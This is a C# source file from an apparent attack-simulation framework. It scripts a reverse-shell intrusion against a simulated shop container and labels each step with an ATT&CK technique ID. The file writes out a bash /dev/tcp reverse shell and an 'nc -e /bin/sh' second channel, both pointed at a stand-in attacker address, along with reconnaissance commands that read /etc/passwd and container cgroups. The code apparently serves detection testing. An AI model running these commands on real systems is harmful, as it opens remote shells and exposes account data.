namespace SysFlow.Simulation;

/// <summary>
/// The shop's service is exploited to open a shell to the intruder, who then explores the container through it.
/// </summary>
internal static class ReverseShell
{
    private static readonly Endpoint Listener = new(Ipv4.From(203, 0, 113, 66), 4_444);

    public static IEnumerable<Beat> Run(Shop shop)
    {
        yield return shop.Api.Node.Random.Around(TimeSpan.FromSeconds(5));
        Move launch = new("Shell to a network address", "T1059.004",
            "/bin/sh -c bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'");
        NodeProcess starter = Intruder.Begin(shop.Api, launch);
        NodeProcess shell = starter.Spawn("/bin/bash -i");
        Intruder.Talk(shell, Listener);
        yield return Beat.Play(Intruder.Play(shell,
        [
            new("User", "T1033", "/usr/bin/id"),
            new("Accounts", "T1087.001", "/bin/cat /etc/passwd", cat => cat.ReadFile("/etc/passwd", 1_203)),
            new("Container", "T1613", "/bin/cat /proc/1/cgroup"),
            new("Second channel", "T1095", "/usr/bin/nc -e /bin/sh 203.0.113.66 4445",
                nc => Intruder.Talk(nc, Listener with { Port = 4_445 })),
        ], TimeSpan.FromSeconds(2)));
        shell.Exit(130);
        starter.Exit();
    }
}
